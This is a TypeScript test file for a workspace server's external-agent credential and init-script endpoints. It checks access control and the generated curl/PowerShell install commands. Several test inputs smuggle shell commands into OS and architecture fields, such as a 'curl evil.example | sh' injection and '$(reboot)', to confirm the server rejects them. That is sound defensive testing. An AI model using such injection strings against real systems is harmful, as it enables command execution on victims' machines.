import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { create } from '@bufbuild/protobuf';
import type { Template, TemplateVersion, Workspace, WorkspaceBuild, WorkspacesResponse } from '@ropewalk/contract';
import { createTestTemplate, insertPerson, startTestServer, type TestServer, takeJob } from '@ropewalk/testkit';
import { CompletedJobSchema } from '@ropewalk/wire/proto/provisionerd';
import { completeJob } from '../job/complete.ts';
import { EXECUTABLES } from './executables.ts';

// Agents that people start on machines which the template does not create, as upstream's `coder external-workspaces` uses them.

let server: TestServer;
let template: Template;
before(async () => {
  server = await startTestServer();
  template = await createTestTemplate(server, 'elsewhere');
});
after(() => server.stop());

/** A workspace whose build has an agent in a resource of this type. */
async function built(name: string, type: string, agent: object): Promise<Workspace> {
  const { body } = await server.api<Workspace>('POST', '/users/me/workspaces', {
    body: { name, template_id: template.id },
  });
  const own = await takeJob(server);
  const agents = [{ id: crypto.randomUUID(), name: 'main', operatingSystem: 'linux', architecture: 'arm64', ...agent }];
  const value = { resources: [{ name: 'machine', type, agents }] };
  await completeJob(
    server.services,
    own,
    create(CompletedJobSchema, { jobId: own.jobId, type: { case: 'workspaceBuild', value } }),
  );
  return body;
}

const credentials = (workspace: string, agent: string, token = server.adminToken) =>
  server.api<{ agent_token: string; command: string; message: string }>(
    'GET',
    `/workspaces/${workspace}/external-agent/${agent}/credentials`,
    { token },
  );

test('gives the credentials of an external agent only to people who may connect', async () => {
  const token = crypto.randomUUID();
  const apps = [{ slug: 'docs', url: 'http://localhost:1', tooltip: 'The **handbook**' }];
  const agent = { auth: { case: 'token', value: token }, apps, connectionTimeoutSeconds: 120 };
  const outside = await built('outside', 'coder_external_agent', agent);
  const found = await credentials(outside.id, 'main');
  assert.equal(found.status, 200, JSON.stringify(found.body));
  assert.equal(found.body.agent_token, token);
  const script = `${server.services.accessUrl}/api/v2/init-script/linux/arm64`;
  assert.equal(found.body.command, `curl -fsSL "${script}" | CODER_AGENT_TOKEN="${token}" sh`);
  assert.equal((await credentials(outside.id, 'other')).status, 404);
  const admin = await insertPerson(server, 'templates', ['template-admin']);
  const refused = await credentials(outside.id, 'main', admin.token);
  assert.ok([403, 404].includes(refused.status), String(refused.status));
  assert.ok(!JSON.stringify(refused.body).includes(token));

  const inside = await built('inside', 'vm', { auth: { case: 'token', value: crypto.randomUUID() } });
  const none = await credentials(inside.id, 'main');
  assert.deepEqual([none.status, none.body.message], [404, 'Workspace does not have an external agent.']);
  const byCloud = await built('cloud', 'coder_external_agent', { auth: { case: 'instanceId', value: 'i-1' } });
  assert.equal((await credentials(byCloud.id, 'main')).status, 404);

  const { body: build } = await server.api<WorkspaceBuild>('GET', `/workspacebuilds/${outside.latest_build.id}`);
  assert.equal(build.has_external_agent, true);
  const [stored] = build.resources[0]!.agents!;
  assert.equal(stored!.connection_timeout_seconds, 0, 'a person starts it at any time');
  assert.equal(stored!.apps[0]!.tooltip, 'The **handbook**');
  for (const [is, names] of [
    ['true', ['cloud', 'outside']],
    ['false', ['inside']],
  ] as const) {
    const { body } = await server.api<WorkspacesResponse>('GET', `/workspaces?q=has_external_agent:${is}`);
    assert.deepEqual(body.workspaces.map(({ name }) => name).sort(), names);
  }
});

test('writes a command for PowerShell if the agent is for Windows', async () => {
  const auth = { case: 'token', value: crypto.randomUUID() };
  const { id } = await built('windows', 'coder_external_agent', { auth, operatingSystem: 'windows' });
  const script = `${server.services.accessUrl}/api/v2/init-script/windows/arm64`;
  const { body } = await credentials(id, 'main');
  assert.equal(body.command, `$env:CODER_AGENT_TOKEN="${auth.value}"; iwr -useb "${script}" | iex`);
});

test('serves the init script of each system to anyone, and names an unknown system', async () => {
  for (const [os, arch] of EXECUTABLES) {
    const answer = await fetch(`${server.url}/api/v2/init-script/${os}/${arch}`);
    assert.equal(answer.status, 200);
    assert.equal(answer.headers.get('content-type'), 'text/plain; charset=utf-8');
    const text = await answer.text();
    const program = `${server.services.accessUrl}/bin/coder-${os}-${arch}${os === 'windows' ? '.exe' : ''}"`;
    assert.ok(text.includes(program), text);
    assert.ok(text.includes(`CODER_AGENT_URL${os === 'windows' ? ' = ' : '='}"${server.services.accessUrl}/"`), text);
    assert.doesNotMatch(text, /\$\{(ACCESS_URL|AUTH_TYPE)\}/);
  }
  assert.equal((await fetch(`${server.url}/api/v2/init-script/Linux/AMD64`)).status, 200);
  for (const system of ['plan9/amd64', 'linux/mips', 'constructor/x', 'linux/amd64$(reboot)']) {
    const answer = await fetch(`${server.url}/api/v2/init-script/${system}`);
    const { message } = (await answer.json()) as { message: string };
    assert.deepEqual([answer.status, message], [400, `Unknown os/arch: ${system}`]);
  }
});

test('writes no command for an operating system or architecture that is not known', async () => {
  for (const [name, machine] of [
    ['os', { operatingSystem: 'linux"; curl evil.example | sh; "' }],
    ['arch', { architecture: 'amd64$(reboot)' }],
    ['pair', { operatingSystem: 'windows', architecture: 'armv7' }],
  ] as const) {
    const auth = { case: 'token', value: crypto.randomUUID() };
    const { id } = await built(name, 'coder_external_agent', { auth, ...machine });
    const { status, body } = await credentials(id, 'main');
    assert.equal(status, 412, JSON.stringify(body));
    assert.match(body.message, /^No agent executable exists for .*\.$/);
    assert.equal(body.command, undefined);
  }
});

test('a template version says whether its workspaces have external agents', async () => {
  const look = async () =>
    (await server.api<TemplateVersion>('GET', `/templateversions/${template.active_version_id}`)).body;
  assert.equal((await look()).has_external_agent, false);
  const { job } = await look();
  await server.services.sql`INSERT INTO workspace_resources (id, job_id, transition, type, name)
    VALUES (${crypto.randomUUID()}, ${job.id}, 'start', 'coder_external_agent', 'machine')`;
  assert.equal((await look()).has_external_agent, true);
});
